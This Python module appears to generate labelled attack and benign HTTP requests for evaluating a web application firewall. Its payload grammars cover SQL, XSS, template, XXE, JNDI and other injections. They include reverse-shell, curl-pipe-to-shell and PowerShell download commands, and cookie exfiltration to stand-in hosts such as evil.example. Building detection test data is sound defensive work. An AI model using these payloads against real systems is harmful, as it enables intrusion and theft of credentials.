"""Labelled attack and benign requests for the detection evaluation, made by this
project's own generators from a seed.

Attacks: for each class, payloads are built from that class's grammar (the syntax
the attack needs, with varied names, numbers, spacing, case and obfuscation), then
encoded (plain, base64, base64 without padding, double URL encoding, JavaScript
unicode escapes, XML entities) and placed (query, path, custom header, User-Agent,
cookie, URL-encoded form, multipart form, JSON body, nested JSON, XML body, SOAP
body, GraphQL argument, raw text body). An encoded payload is what an application
that decodes that encoding receives; the WAF must see through it.

Benign: what real users send: prose in several languages (including words that
look like SQL or shell), forum posts that quote code (shell, PowerShell, Rust,
JavaScript, Python, nginx configuration, SQL), Markdown, REST API traffic with
every method, GraphQL queries, uploads, `data:` URIs, URLs in parameters, e-mail
addresses and names with apostrophes.

No payload here comes from a public WAF test tool or payload collection: each is
written from the syntax of the component it attacks.
"""

import base64
import json
import random
import urllib.parse

# --------------------------------------------------------------------------------
# Attack grammars


def _q(r):
    return r.choice(["'", '"', "'", "')", "\")"])


def _n(r):
    return str(r.randint(1, 999))


def _word(r):
    return r.choice(["admin", "user", "guest", "root", "test", "alice", "bob", "data", "item", "acct"])


def _table(r):
    return r.choice(["users", "accounts", "members", "passwords", "customers", "orders", "admin_users", "credentials"])


def _col(r):
    return r.choice(["password", "passwd", "username", "email", "hash", "secret", "token", "ssn"])


def _host(r):
    return r.choice(["evil.example", "attacker.test", "exfil.invalid", "x.oast.example"]) if r.random() < 0.8 else \
        f"{r.randint(11, 99)}.{r.randint(1, 254)}.{r.randint(1, 254)}.{r.randint(1, 254)}"


def _case(r, s):
    """Random letter case, as payloads vary it."""
    if r.random() < 0.6:
        return s
    return "".join(c.upper() if r.random() < 0.5 else c.lower() for c in s)


def _sp(r, s):
    """SQL white space replaced by comments or plus signs, sometimes."""
    x = r.random()
    if x < 0.7:
        return s
    if x < 0.85:
        return s.replace(" ", "/**/")
    return s.replace(" ", "\t")


def sql(r):
    q, n, t, c = _q(r), _n(r), _table(r), _col(r)
    k = str(r.randint(1, 9))
    forms = [
        f"{n}{q} OR {q}{k}{q}={q}{k}",
        f"{n}{q} OR {k}={k}-- -",
        f"{_word(r)}{q}--",
        f"{q} OR 1=1#",
        f"{n} OR 1=1",
        f"{n} UNION SELECT {c},NULL FROM {t}--",
        f"{n}{q} UNION ALL SELECT NULL,{c},NULL FROM {t}-- -",
        f"-{n} union select 1,{c},3 from {t}",
        f"{n}; DROP TABLE {t}--",
        f"{n}{q}; EXEC xp_cmdshell('dir')--",
        f"{n} AND SLEEP({k})",
        f"{n}{q} AND (SELECT {k} FROM (SELECT(SLEEP({k})))a)-- -",
        f"{n}; WAITFOR DELAY '0:0:{k}'--",
        f"{n}{q}||pg_sleep({k})--",
        f"{n} AND extractvalue(1,concat(0x7e,version()))",
        f"{n}{q} AND updatexml(1,concat(0x7e,(SELECT user())),1)-- -",
        f"{n} AND ASCII(SUBSTRING((SELECT {c} FROM {t} LIMIT 1),1,1))>64",
        f"{n}{q} AND {q}{k}{q}={q}{k}",
        f"{n} AND 1=(SELECT COUNT(*) FROM information_schema.tables)",
        f"{n}{q} OR BENCHMARK(5000000,MD5({k}))#",
        f"{_word(r)}{q} OR {q}x{q} LIKE {q}x",
        f"{n} ORDER BY {k}--",
        f"{n}{q} GROUP BY {c} HAVING 1=1--",
        f"{q};exec master..xp_cmdshell 'ping {_host(r)}'--",
        f"{n}{q} || UTL_INADDR.get_host_address('{_host(r)}') --",
        f"{n}{q} AND 1=CONVERT(int,@@version)--",
        f"{n}; SELECT pg_sleep({k})--",
        f"{_word(r)}{q} #",
        f"{q} OR {q}{q}={q}",
        f"{n} OR 1=1 LIMIT 1",
        f"(SELECT * FROM (SELECT(SLEEP({k})))a)",
        f"{n}{q} ORDER BY 10--+",
        f"{q} AND 1 IN (SELECT @@version)--",
        f"{n} AND 1=2 UNION SELECT 1,2,{c}",
        f"{n}/**/OR/**/1=1",
        f"{n}{q}/*!50000UNION*//*!50000SELECT*/{c}/**/FROM/**/{t}--",
        f"{q}=sleep({k})={q}",
        f"{n}{q} AND (SELECT SUBSTR({c},1,1) FROM {t} WHERE rownum=1)={q}a",
    ]
    return _sp(r, _case(r, r.choice(forms)))


def xss(r):
    n = _n(r)
    fn = r.choice(["alert", "prompt", "confirm", "print"])
    call = f"{fn}({n})" if r.random() < 0.7 else f"{fn}(document.cookie)"
    forms = [
        f"<script>{call}</script>",
        f"<img src=x onerror={call}>",
        f"\"><svg/onload={call}>",
        f"'><iframe src=javascript:{call}>",
        f"javascript:{call}",
        f"<body onload={call}>",
        f"<details open ontoggle={call}>",
        f"<a href=\"jav&#x09;ascript:{call}\">x</a>",
        f"<input autofocus onfocus={call}>",
        f"<video><source onerror=\"{call}\">",
        f"\" onmouseover=\"{call}\" x=\"",
        f"<svg><animate onbegin={call} attributeName=x dur=1s>",
        f"<object data=\"data:text/html;base64,{base64.b64encode(f'<script>{call}</script>'.encode()).decode()}\">",
        f"<math><mtext><a xlink:href=\"javascript:{call}\">x</a></mtext></math>",
        f"<ScRiPt>{call}</sCrIpT>",
        f"<scr<script>ipt>{call}</script>",
        f"<div style=\"background:url(javascript:{call})\">",
        f"<marquee onstart={call}>",
        f"';{call}//",
        f"\"-{call}-\"",
        f"</script><script>{call}</script>",
        f"<img src=x:{fn} onerror=eval(src)>",
        f"<iframe src=\"data:text/html;base64,{base64.b64encode(f'<script>{call}</script>'.encode()).decode()}\">",
        f"<a href=javascript&colon;{call}>x</a>",
        f"<svg><script>{call}</script></svg>",
        f"<style>@import 'javascript:{call}';</style>",
        f"<form><button formaction=javascript:{call}>x</button></form>",
        f"<img src=\"x\" onerror=\"fetch('//{_host(r)}/?c='+document.cookie)\">",
    ]
    return r.choice(forms)


def cmd(r):
    host = _host(r)
    sep = r.choice([";", "|", "||", "&&", "&", "\n", "`", "$("])
    c = r.choice([
        "cat /etc/passwd", "id", "whoami", "uname -a", "ls -la /", f"ping -c 3 {host}", f"sleep {r.randint(3, 20)}",
        f"wget http://{host}/x.sh", f"curl {host}|sh", f"nc -e /bin/sh {host} {r.randint(1024, 65000)}",
        "type C:\\Windows\\win.ini", "dir C:\\", "powershell -c Get-Process", "cat${IFS}/etc/passwd",
        "c'a't /e't'c/pa's'swd", "/???/c?t /???/p??s??", "net user", "ifconfig", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        f"nslookup {host}", "echo $(id)", "tail -n 5 /etc/shadow",
        "cmd.exe /c dir", "powershell.exe -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://x/a')\"",
        "certutil -urlcache -split -f http://x/a.exe", "python3 -c 'import os;os.system(\"id\")'",
        "perl -e 'print 1'", "php -r 'system(\"id\");'", "ruby -e 'exec \"id\"'", "busybox nc x 4444 -e sh",
        "find / -perm -4000", "awk 'BEGIN {system(\"id\")}'", "sh -c id", "{ls,-la}",
    ])
    if sep == "`":
        payload = f"`{c}`"
    elif sep == "$(":
        payload = f"$({c})"
    else:
        payload = f"{sep} {c}" if r.random() < 0.5 else f"{sep}{c}"
    prefix = r.choice(["", "", "127.0.0.1", "file.txt", _word(r), n_of(r)])
    return prefix + payload


def n_of(r):
    return str(r.randint(1, 99999))


def traversal(r):
    target = r.choice(["etc/passwd", "etc/shadow", "etc/hosts", "windows/win.ini", "boot.ini", "proc/self/environ",
                       "WEB-INF/web.xml", ".env", "var/log/apache2/access.log", ".ssh/id_rsa"])
    depth = r.randint(2, 8)
    up = r.choice(["../", "..\\", "..%2f", "%2e%2e/", "%2e%2e%2f", "....//", "..%c0%af", "..%252f", "%252e%252e/", "..%5c"])
    forms = [
        up * depth + target,
        "/" + target,
        up * depth + target + "%00.jpg",
        f"file:///{target}",
        f"php://filter/convert.base64-encode/resource={r.choice(['index.php', 'config.php', '../config.php'])}",
        f"php://filter/read=string.rot13/resource=/{target}",
        f"{r.choice(['images', 'static', 'uploads'])}/" + up * depth + target,
        f"expect://{r.choice(['id', 'ls'])}",
        f"http://{_host(r)}/shell.txt?",
        f"zip://uploads/avatar.zip%23shell.php",
        "C:\\" + target.replace("/", "\\"),
        "..;/" * depth + target,
        "/" + "../" * depth + target,
        "file://localhost/" + target,
        "....\\\\" * depth + target.replace("/", "\\"),
        "%c0%ae%c0%ae/" * depth + target,
        "/proc/self/cwd/index.php",
    ]
    return r.choice(forms)


def template(r):
    a, b = r.randint(3, 99), r.randint(3, 99)
    forms = [
        f"{{{{{a}*{b}}}}}", f"${{{a}*{b}}}", f"<%= {a}*{b} %>", f"#{{{a}*{b}}}", f"*{{{a}*{b}}}", f"{{{{{a}*'{b}'}}}}",
        f"${{{{{a}*{b}}}}}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ config.items() }}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
        "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
        "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\")",
        "<%= system('id') %>",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
        "{{ self.__init__.__globals__.__builtins__ }}",
        "#{T(java.lang.System).getenv()}",
        "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}",
        "<!--#exec cmd=\"id\" -->",
        "<!--#include virtual=\"/etc/passwd\" -->",
        "<esi:include src=\"http://evil.example/x\"/>",
        "{php}echo `id`;{/php}",
        "@(1+2)",
        "[[${7*7}]]",
        "{{7*7}}[[5*5]]",
        "${{<%[%'\"}}%\\.",
        "#{7*7}",
        "${class.getResource(\"\").getPath()}",
    ]
    return r.choice(forms)


def nosql(r):
    f = r.choice(["username", "password", "user", "login", "pin", "token", "email"])
    forms = [
        json.dumps({f: {"$ne": None}}),
        json.dumps({f: {"$gt": ""}}),
        json.dumps({"$where": f"sleep({r.randint(100, 5000)})"}),
        json.dumps({f: {"$regex": ".*"}}),
        json.dumps({f: {"$nin": []}}),
        '{"$ne": 1}',
        "' || '1'=='1",
        "'; return true; var x='",
        "' && this.password.match(/.*/)//",
        "true, $where: '1 == 1'",
        f"db.{_table(r)}.find()",
        '{"$gt": ""}',
        f"{f}[$ne]=1",
        "';sleep(5000);'",
        "'||1==1//",
        "{$where: 'sleep(5000)'}",
        f"{f}[$regex]=.*",
        f"{f}[$exists]=true",
        json.dumps({f: {"$in": []}}),
        "';return 'a'=='a' && ''=='",
    ]
    return r.choice(forms)


def ldap(r):
    attr = r.choice(["uid", "cn", "mail", "sn", "objectClass", "userPassword", "memberOf"])
    w = _word(r)
    forms = [
        f"*)({attr}=*))(|({attr}=*",
        f"{w}*)((|userPassword=*)",
        f"{w})(&)",
        f"*)(|(objectClass=*))",
        f"{w})({attr}=*)",
        f"*(|({attr}=*))",
        f"{w})(|(password=*))",
        f"*)(&(objectClass=user)({attr}=*",
        f"{w})(|({attr}=*)",
        f"*)({attr}=*))%00",
        f"{w}*)(|(&",
        "*()|%26'",
    ]
    return r.choice(forms)


def xxe(r):
    target = r.choice(["file:///etc/passwd", "file:///c:/windows/win.ini", f"http://{_host(r)}/x.dtd", "expect://id"])
    root = r.choice(["foo", "data", "root", "user", "order"])
    forms = [
        f'<?xml version="1.0"?><!DOCTYPE {root} [<!ENTITY xxe SYSTEM "{target}">]><{root}>&xxe;</{root}>',
        f'<!DOCTYPE {root} [<!ENTITY % p SYSTEM "{target}"> %p;]><{root}/>',
        f'<!DOCTYPE {root} SYSTEM "{target}"><{root}>x</{root}>',
        f'<{root} xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="{target}"/></{root}>',
    ]
    return r.choice(forms)


def ssrf(r):
    port = r.choice(["", ":8080", ":6379", ":22", ":3306", ":80"])
    path = r.choice(["/", "/admin", "/latest/meta-data/", "/server-status", "/computeMetadata/v1/"])
    host = r.choice(["127.0.0.1", "localhost", "169.254.169.254", "[::1]", "0x7f000001", "2130706433", "0177.0.0.1",
                     "127.1", "10.0.0.5", "192.168.1.1", "172.16.0.10", "metadata.google.internal", "[::ffff:127.0.0.1]",
                     "0.0.0.0", "127.0.0.1.nip.io"])
    forms = [
        f"http://{host}{port}{path}",
        f"https://{host}{port}{path}",
        f"http://{_word(r)}@{host}{port}{path}",
        f"gopher://{host}:6379/_INFO",
        f"dict://{host}:11211/stats",
        f"//{host}{path}",
    ]
    return r.choice(forms)


def jndi(r):
    proto = r.choice(["ldap", "ldaps", "rmi", "dns", "iiop"])
    host = _host(r)
    forms = [
        f"${{jndi:{proto}://{host}/a}}",
        f"${{${{lower:j}}ndi:{proto}://{host}/a}}",
        f"${{${{::-j}}${{::-n}}${{::-d}}${{::-i}}:{proto}://{host}/a}}",
        f"${{${{env:NaN:-j}}ndi${{env:NaN:-:}}{proto}://{host}/a}}",
        f"${{jndi:{proto}://{host}/${{env:USER}}}}",
        f"${{${{upper:j}}${{upper:n}}di:{proto}://{host}/a}}",
    ]
    return r.choice(forms)


def crlf(r):
    email = f"{_word(r)}@example.org"
    forms = [
        f"{_word(r)}\r\nSet-Cookie: sess={n_of(r)}",
        f"/\r\nLocation: http://{_host(r)}/",
        f"{email}\nBcc: victim{n_of(r)}@example.net",
        f"{email}\r\nCc: {_word(r)}@example.net",
        f"{_word(r)}\r\nContent-Type: text/html",
        f"{_word(r)}\r\nRCPT TO:<{email}>",
        f"INBOX\r\nV100 CAPABILITY\r\nV101 FETCH {n_of(r)}",
        f"{_word(r)}\r\nA1 LOGIN admin secret",
        f"{_word(r)}\r\n\r\n<html>x</html>",
        f"{email}%0ABcc:victim@example.net",
        f"{_word(r)}\r\nV101 LIST \"\" *",
        f"{_word(r)}\r\nMAIL FROM:<{email}>",
        f"{_word(r)}\nX-Injected: 1",
    ]
    return r.choice(forms)


def serialized(r):
    junk = base64.b64encode(bytes(r.randrange(256) for _ in range(24))).decode()
    forms = [
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA" + junk,
        f'O:{r.randint(4, 12)}:"{r.choice(["Example", "User", "Logger", "Cache"])}":1:{{s:3:"cmd";s:2:"id";}}',
        "!!python/object/apply:os.system ['id']",
        '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start"}',
        '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://x/a","autoCommit":true}',
        base64.b64encode(b"\x80\x04\x95\x1e\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94").decode(),
        "aced0005737200" + junk.encode().hex()[:20],
    ]
    return r.choice(forms)


CLASSES = {
    "sql": sql, "xss": xss, "cmd": cmd, "traversal": traversal, "template": template, "nosql": nosql,
    "ldap": ldap, "xxe": xxe, "ssrf": ssrf, "jndi": jndi, "crlf": crlf, "serialized": serialized,
}

# --------------------------------------------------------------------------------
# Encodings


def enc_plain(p):
    return p


def enc_base64(p):
    return base64.b64encode(p.encode()).decode()


def enc_base64_flat(p):
    return base64.b64encode(p.encode()).decode().rstrip("=")


def enc_double_url(p):
    return urllib.parse.quote(p, safe="")


def enc_js_unicode(p):
    return "".join(f"\\u{ord(c):04x}" for c in p)


def enc_xml_entity(p):
    return "".join(f"&#x{ord(c):x};" for c in p)


ENCODINGS = {
    "plain": enc_plain, "base64": enc_base64, "base64-flat": enc_base64_flat, "url": enc_double_url,
    "js-unicode": enc_js_unicode, "xml-entity": enc_xml_entity,
}

# --------------------------------------------------------------------------------
# Placements: each returns (method, target, headers, body)

COMMON = [("Host", "shop.example"), ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36"),
          ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"), ("Accept-Language", "en-US,en;q=0.9")]


def _hdrs(extra=(), ua=None):
    h = [(k, v) for k, v in COMMON if not (ua is not None and k == "User-Agent")]
    if ua is not None:
        h.append(("User-Agent", ua))
    return h + list(extra)


def header_safe(v):
    return "\r" not in v and "\n" not in v and all(32 <= ord(c) < 127 for c in v)


def xml_escape(v):
    return v.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def place(kind, name, v, cls):
    q = urllib.parse.quote
    if kind == "query":
        return "GET", f"/search?{name}={q(v, safe='')}", _hdrs(), b""
    if kind == "path":
        return "GET", f"/api/items/{q(v, safe='')}", _hdrs(), b""
    if kind == "header":
        if not header_safe(v):
            return None
        return "GET", "/account", _hdrs([(f"X-{name.title()}", v)]), b""
    if kind == "user-agent":
        if not header_safe(v):
            return None
        return "GET", "/", _hdrs(ua=v), b""
    if kind == "cookie":
        return "GET", "/profile", _hdrs([("Cookie", f"lang=en; {name}={q(v, safe='')}")]), b""
    if kind == "form":
        body = f"{name}={q(v, safe='')}&submit=Send".encode()
        return "POST", "/comment", _hdrs([("Content-Type", "application/x-www-form-urlencoded")]), body
    if kind == "multipart":
        body = (f"--XBOUND\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{v}\r\n"
                "--XBOUND\r\nContent-Disposition: form-data; name=\"submit\"\r\n\r\nSend\r\n--XBOUND--\r\n").encode()
        return "POST", "/upload", _hdrs([("Content-Type", "multipart/form-data; boundary=XBOUND")]), body
    if kind == "json":
        return "POST", "/api/v1/query", _hdrs([("Content-Type", "application/json")]), json.dumps({name: v}).encode()
    if kind == "json-nested":
        doc = {"data": {"type": "item", "attributes": {"tags": ["a"], name: v}}}
        return "PUT", "/api/v1/items/7", _hdrs([("Content-Type", "application/json")]), json.dumps(doc).encode()
    if kind == "xml":
        if cls == "xxe":
            body = v
        else:
            body = f"<?xml version=\"1.0\"?><request><{name}>{xml_escape(v)}</{name}></request>"
        return "POST", "/api/xml", _hdrs([("Content-Type", "application/xml")]), body.encode()
    if kind == "soap":
        inner = v if cls == "xxe" else xml_escape(v)
        body = ("<?xml version=\"1.0\"?><soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\">"
                f"<soap:Body><GetItem><{name}>{inner}</{name}></GetItem></soap:Body></soap:Envelope>")
        if cls == "xxe":
            body = v
        return "POST", "/soap", _hdrs([("Content-Type", "text/xml; charset=utf-8"), ("SOAPAction", "GetItem")]), body.encode()
    if kind == "graphql":
        gql = "query { search(" + name + ": " + json.dumps(v) + ") { id title } }"
        return "POST", "/graphql", _hdrs([("Content-Type", "application/json")]), json.dumps({"query": gql}).encode()
    if kind == "raw-body":
        return "POST", "/api/raw", _hdrs([("Content-Type", "text/plain")]), v.encode()
    raise ValueError(kind)


PLACEMENTS = ["query", "path", "header", "user-agent", "cookie", "form", "multipart", "json", "json-nested",
              "xml", "soap", "graphql", "raw-body"]

NAMES = ["q", "id", "search", "name", "comment", "file", "url", "page", "data", "input", "user", "redirect"]


def attacks(seed=1, per_class=8):
    """Every (class, encoding, placement) combination, `per_class` payloads each;
    yields dicts with the label and the request."""
    r = random.Random(seed)
    for cls, gen in CLASSES.items():
        for enc_name, enc in ENCODINGS.items():
            for kind in PLACEMENTS:
                for _ in range(per_class):
                    payload = gen(r)
                    if cls == "xxe" and kind in ("xml", "soap") and enc_name != "plain":
                        continue  # the document is the body: there is nothing to encode it into
                    v = enc(payload)
                    req = place(kind, r.choice(NAMES), v, cls)
                    if req is None:
                        continue
                    yield {"label": "attack", "class": cls, "encoding": enc_name, "placement": kind, "request": req,
                           "payload": payload}


# --------------------------------------------------------------------------------
# Benign traffic

PROSE = {
    "en": [
        "I would like to select a union representative for our team next week.",
        "Sleep(8 hours) is what my doctor recommends, or at least seven.",
        "zsh is the best! Bash is fine too, and fish is fun.",
        "Please update the order by Friday; the client is waiting.",
        "My name is O'Brien and I live at 12 Main St, apt. 3.",
        "Can you drop the table from the living room into the car?",
        "The cat sat on the mat and then ran | jumped & hid.",
        "We had fish & chips, then a walk; it was lovely.",
        "Where is the nearest exec lounge at the airport?",
        "Echo chamber effects are real, says the study (2023).",
        "Is 1 = 1? Philosophers have argued about identity for ages.",
        "Set the date for the meeting, then type a short note.",
        "The union was a great select committee in 1910.",
        "Contact john+or@var.es or mary-and@example.org for details.",
        "She said: 'or else', and left the room.",
        "Run, don't walk, to the sale at the mall!",
    ],
    "de": [
        "Ich möchte gerne einen Tisch für zwei Personen um 19 Uhr reservieren.",
        "Die Lieferung kam gestern; alles war in Ordnung & gut verpackt.",
        "Können Sie mir bitte die Rechnung per E-Mail schicken?",
    ],
    "fr": [
        "Bonjour, je voudrais savoir si la commande n°1234 est partie.",
        "C'est l'été ; on va à la plage ou à la montagne ?",
        "L'hôtel était « magnifique » et le personnel très aimable.",
    ],
    "es": [
        "¿Dónde está la estación de tren más cercana, por favor?",
        "Me encanta el café con leche y un poco de azúcar.",
    ],
    "ru": ["Здравствуйте! Подскажите, пожалуйста, как оформить возврат?", "Спасибо за быструю доставку."],
    "zh": ["请问这个产品有其他颜色吗？", "谢谢你的帮助，祝你有美好的一天。"],
    "ja": ["この商品はいつ発送されますか？", "ご返信ありがとうございます。"],
}

CODE_POSTS = [
    ("shell", "To see which process holds the port, run:\n\n```\nsudo lsof -i :8080 | grep LISTEN\n```\n\nThen kill it with `kill -9 <pid>` if you must."),
    ("shell", "My backup script:\n```bash\n#!/bin/bash\nfor f in *.log; do\n  gzip \"$f\" && mv \"$f.gz\" /backup/\ndone\n```\nIt works, but is there a faster way?"),
    ("powershell", "In PowerShell you can do:\n```\nGet-ChildItem -Path C:\\Logs -Filter *.txt | Where-Object { $_.Length -gt 1MB }\n```\nand pipe it to Remove-Item."),
    ("rust", "Here is my Rust code:\n```rust\nfn main() {\n    let v: Vec<u32> = (1..10).filter(|x| x % 2 == 0).collect();\n    println!(\"{:?}\", v);\n}\n```\nWhy does the borrow checker complain when I push?"),
    ("js", "In JavaScript:\n```js\nconst total = items.reduce((a, b) => a + b.price, 0);\ndocument.getElementById('sum').textContent = `${total}`;\n```\nIs reduce slower than a for loop?"),
    ("python", "I wrote:\n```python\nimport os\nfor root, dirs, files in os.walk('.'):\n    print(len(files))\n```\nbut it is slow on a network drive."),
    ("nginx", "My nginx config:\n```\nlocation /api/ {\n    proxy_pass http://backend;\n    proxy_set_header Host $host;\n    limit_req zone=one burst=5;\n}\n```\nreturns 502 sometimes."),
    ("sql", "For the report I use:\n```sql\nSELECT name, COUNT(*) FROM orders GROUP BY name ORDER BY 2 DESC;\n```\nCan I add a HAVING clause for counts over 10?"),
    ("html", "To center a div I use `display: flex; justify-content: center;` on the parent. Works in every browser now."),
    ("yaml", "The compose file:\n```yaml\nservices:\n  web:\n    image: nginx:1.25\n    ports: [\"8080:80\"]\n```\nstarts, but the volume is empty."),
]

MARKDOWN = [
    "# Release notes\n\n* Fixed a crash when the list was empty\n* Faster search (2x)\n\n> Thanks to all contributors!",
    "## Steps\n1. Open the settings\n2. Choose *Privacy*\n3. Press **Save**\n\n[Help](https://example.com/help)",
]

API_USERS = ["alice", "bob", "carol", "dave", "erin", "frank"]


def benign(seed=2, count=600):
    r = random.Random(seed)
    out = []

    def add(cat, req):
        out.append({"label": "benign", "category": cat, "request": req})

    q = urllib.parse.quote
    for _ in range(count // 12):
        lang = r.choice(list(PROSE))
        text = r.choice(PROSE[lang])
        add("prose", ("GET", f"/search?q={q(text)}", _hdrs(), b""))
        add("prose", ("POST", "/comment", _hdrs([("Content-Type", "application/x-www-form-urlencoded")]),
                      f"name={q(r.choice(['Anne', 'O’Neil', 'Renée', 'José', 'D’Arcy', 'Mc Donald']))}&text={q(text)}".encode()))
        kind, post = r.choice(CODE_POSTS)
        add(f"forum-{kind}", ("POST", "/forum/reply", _hdrs([("Content-Type", "application/x-www-form-urlencoded")]),
                              f"title={q('Question about ' + kind)}&body={q(post)}".encode()))
        add("markdown", ("POST", "/api/v1/notes", _hdrs([("Content-Type", "application/json")]),
                         json.dumps({"title": "notes", "body": r.choice(MARKDOWN)}).encode()))
        user = r.choice(API_USERS)
        uid = r.randint(1, 9999)
        doc = {"name": user, "email": f"{user}@example.com", "age": r.randint(18, 90), "tags": ["a", "b"],
               "address": {"street": f"{r.randint(1, 200)} Oak Ave", "city": "Springfield"}}
        method = r.choice(["POST", "PUT", "PATCH"])
        add("api", (method, f"/api/v1/users/{uid}", _hdrs([("Content-Type", "application/json"),
                                                           ("Authorization", "Bearer " + jwt_like(r))]),
                    json.dumps(doc).encode()))
        add("api", ("DELETE", f"/api/v1/users/{uid}", _hdrs([("Authorization", "Bearer " + jwt_like(r))]), b""))
        add("api", ("GET", f"/api/v1/orders?status=shipped&limit={r.randint(1, 100)}&sort=-created_at&fields=id,total",
                    _hdrs([("Accept", "application/json")]), b""))
        flt = r.choice([{"age": {"$gte": r.randint(18, 30)}}, {"price": {"$lt": 100, "$gt": 10}},
                        {"status": {"$in": ["new", "open"]}}, {"deleted": {"$ne": True}}])
        add("api", ("POST", "/api/v1/search", _hdrs([("Content-Type", "application/json")]),
                    json.dumps({"filter": flt, "page": 1}).encode()))
        gql = r.choice([
            'query { user(id: "%d") { name email posts(first: 5) { title } } }' % uid,
            'mutation { updateProfile(input: {bio: "I like hiking & photography", city: "Oslo"}) { ok } }',
            "query Orders($s: String) { orders(status: $s, last: 10) { id total } }",
        ])
        add("graphql", ("POST", "/graphql", _hdrs([("Content-Type", "application/json")]),
                        json.dumps({"query": gql, "variables": {"s": "open"}}).encode()))
        img = base64.b64encode(bytes(r.randrange(256) for _ in range(300))).decode()
        add("data-uri", ("POST", "/profile", _hdrs([("Content-Type", "application/x-www-form-urlencoded")]),
                         f"nick={user}&avatar={q('data:image/png;base64,' + img)}".encode()))
        link = r.choice(["https://en.wikipedia.org/wiki/Union_(set_theory)", "https://www.example.com/a/b?c=d&e=f",
                         "http://news.example.org/2024/05/story.html#comments", "https://maps.example.com/?q=48.85,2.35"])
        add("url-param", ("GET", f"/share?url={q(link, safe='')}&ref=home", _hdrs(), b""))
        body = (b"--XB\r\nContent-Disposition: form-data; name=\"caption\"\r\n\r\nMy holiday (2024) - the beach & sea\r\n"
                b"--XB\r\nContent-Disposition: form-data; name=\"photo\"; filename=\"IMG_" + str(uid).encode() +
                b".jpg\"\r\nContent-Type: image/jpeg\r\n\r\n\xff\xd8\xff\xe0" + bytes(r.randrange(256) for _ in range(200)) +
                b"\r\n--XB--\r\n")
        add("upload", ("POST", "/photos", _hdrs([("Content-Type", "multipart/form-data; boundary=XB")]), body))
    return out


def jwt_like(r):
    def seg(obj):
        return base64.urlsafe_b64encode(json.dumps(obj).encode()).decode().rstrip("=")
    return seg({"alg": "HS256", "typ": "JWT"}) + "." + seg({"sub": str(r.randint(1, 10**6)), "name": "Jane Doe", "iat": 1700000000}) + \
        "." + base64.urlsafe_b64encode(bytes(r.randrange(256) for _ in range(32))).decode().rstrip("=")


def to_bytes(req):
    """The raw HTTP/1.1 request."""
    method, target, headers, body = req
    lines = [f"{method} {target} HTTP/1.1"]
    for k, v in headers:
        lines.append(f"{k}: {v}")
    if body or method in ("POST", "PUT", "PATCH"):
        lines.append(f"Content-Length: {len(body)}")
    lines.append("Connection: close")
    head = ("\r\n".join(lines) + "\r\n\r\n").encode("utf-8")
    return head + body
